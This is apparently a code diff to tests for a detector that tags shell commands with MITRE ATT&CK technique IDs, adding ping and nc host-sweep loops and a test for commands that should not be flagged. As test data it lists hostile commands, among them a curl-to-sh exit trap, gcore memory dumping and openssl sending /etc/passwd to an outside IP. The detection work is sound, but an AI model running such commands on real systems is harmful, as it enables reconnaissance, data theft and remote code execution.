@@ -139,6 +139,8 @@ MORE_SENSITIVE = [
     ("upx /tmp/x", "T1027.002"),
     ("trap 'curl x | sh' EXIT", "T1546.005"),
     ("gcore 1234", "T1003.007"),
+    ("for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done", "T1018"),
+    ("for h in {1..20}; do nc -zv ${NET}.1.$h 22; done", "T1018"),
 ]
 
 
@@ -200,6 +202,11 @@ def test_a_tls_connection_by_hand_counts_when_it_carries_data() -> None:
     assert _techniques("openssl s_client -connect example.com:443 -servername example.com")["T1573"] < 0.3
     assert _techniques("openssl s_client -quiet -connect 198.51.100.7:4443")["T1573"] >= 0.3
     assert _techniques("openssl s_client -connect 198.51.100.7:4443 < /etc/passwd")["T1573"] >= 0.3
+
+
+def test_one_address_or_a_loop_over_hosts_by_name_is_no_sweep() -> None:
+    assert "T1018" not in _techniques("ping -c 3 10.0.0.1")
+    assert "T1018" not in _techniques("for h in web1 web2; do ssh $h uptime; done")
 
 
 def test_the_sshd_config_counts_when_it_lets_more_in() -> None:
